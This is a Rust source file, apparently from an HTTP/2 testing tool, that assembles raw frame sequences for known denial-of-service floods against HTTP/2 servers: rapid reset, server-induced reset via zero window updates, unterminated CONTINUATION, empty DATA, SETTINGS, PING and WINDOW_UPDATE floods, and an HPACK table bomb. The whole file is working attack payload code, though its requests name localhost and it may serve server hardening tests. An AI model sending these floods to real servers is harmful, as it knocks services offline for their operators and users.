//! HTTP/2 as bytes: the preface, frames, and floods made of them.

/// What every connection in HTTP/2 begins with.
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_HEADERS: u8 = 4;

/// Streams that one round of a script opens.
const STREAMS: u32 = 200;

/// Frames that are sent again and again.
pub(crate) struct Script {
    pub(crate) name: &'static str,
    pub(crate) frames: Vec<u8>,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload");
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// `GET / http localhost` in HPACK: three indexed fields and one literal.
fn head() -> Vec<u8> {
    let mut head = vec![0x82, 0x84, 0x86, 0x41, 9];
    head.extend_from_slice(b"localhost");
    head
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &head())
}

/// The settings, and then what `round` makes of each of many streams.
fn on_streams(round: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let mut frames = frame(SETTINGS, 0, 0, &[]);
    for number in 0..STREAMS {
        frames.extend(round(number * 2 + 1));
    }
    frames
}

/// A table entry of 4 KiB, and a head that names it thousands of times.
fn bomb(stream: u32) -> Vec<u8> {
    let mut head = head();
    // A new name and a value of 4000 bytes, kept in the table.
    head.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    head.extend(std::iter::repeat_n(b'a', 4_000));
    head.extend(std::iter::repeat_n(0xbe, 12_000));
    frame(HEADERS, END_HEADERS, stream, &head)
}

/// The floods that servers of HTTP/2 have fallen to.
pub(crate) fn scripts() -> Vec<Script> {
    let script = |name, frames| Script { name, frames };
    let reset = |stream| {
        [
            get(stream),
            frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
        ]
        .concat()
    };
    // A window that grows by nothing makes the server reset the stream itself.
    let made_to = |stream| [get(stream), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat();
    let endless = |stream| {
        let begin = frame(HEADERS, 0, stream, &head());
        [begin, frame(CONTINUATION, 0, stream, &[0; 64]).repeat(50)].concat()
    };
    let empty = |stream| [get(stream), frame(DATA, 0, stream, &[]).repeat(50)].concat();
    vec![
        script("rapid reset", on_streams(reset)),
        script("made to reset", on_streams(made_to)),
        script("CONTINUATION without end", on_streams(endless)),
        script("empty DATA", on_streams(empty)),
        script(
            "SETTINGS",
            frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1]).repeat(1_000),
        ),
        script("PING", frame(PING, 0, 0, &[0; 8]).repeat(1_000)),
        script("HPACK bomb", on_streams(bomb)),
        script(
            "windows",
            frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(1_000),
        ),
    ]
}
